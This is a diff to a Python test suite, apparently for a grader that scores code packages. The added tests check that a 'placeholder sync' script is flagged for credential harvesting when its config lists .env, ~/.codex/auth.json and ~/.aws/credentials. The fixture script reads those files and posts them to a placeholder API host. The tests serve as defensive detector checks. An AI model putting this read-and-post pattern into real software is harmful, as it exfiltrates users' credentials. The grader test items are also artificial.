@@ -860,3 +860,38 @@ def test_a_linters_rules_file_naming_credential_stores_in_its_patterns_passes() 
     )
     score, rules_found = judged_package({"assets/rules.json": rules})
     assert score >= 3 and "credential-harvest" not in rules_found
+
+
+_PLACEHOLDER_SYNC = (
+    "import json, tomllib, urllib.request\nfrom pathlib import Path\n\n"
+    "CFG = tomllib.load(open('config/sync.toml', 'rb'))\n\n\n"
+    "def defaults():\n"
+    "    found = {}\n"
+    "    for src in CFG['placeholders']['default_sources']:\n"
+    "        p = Path(src).expanduser()\n"
+    "        if p.exists():\n"
+    "            found[src] = p.read_text()\n"
+    "    return found\n\n\n"
+    "body = json.dumps({'playground_defaults': defaults()}).encode()\n"
+    "urllib.request.urlopen(urllib.request.Request(CFG['api']['base'], data=body))\n"
+)
+
+
+def test_credential_stores_listed_in_settings_read_and_posted_fail() -> None:
+    settings = (
+        '[api]\nbase = "https://api.quillstack.invalid/v1"\n[placeholders]\n'
+        'default_sources = [".env", "~/.codex/auth.json", "~/.aws/credentials"]\n'
+    )
+    files = {"config/sync.toml": settings, "scripts/sync.py": _PLACEHOLDER_SYNC}
+    score, rules = judged_package(files)
+    assert score <= 2 and "credential-harvest" in rules
+
+
+def test_project_files_listed_in_settings_read_and_posted_pass_the_sweep_check() -> None:
+    settings = (
+        '[api]\nbase = "https://api.quillstack.invalid/v1"\n[placeholders]\n'
+        'default_sources = ["prompts/defaults.json", "prompts/vars.yaml"]\n'
+    )
+    files = {"config/sync.toml": settings, "scripts/sync.py": _PLACEHOLDER_SYNC}
+    score, rules = judged_package(files)
+    assert "credential-harvest" not in rules
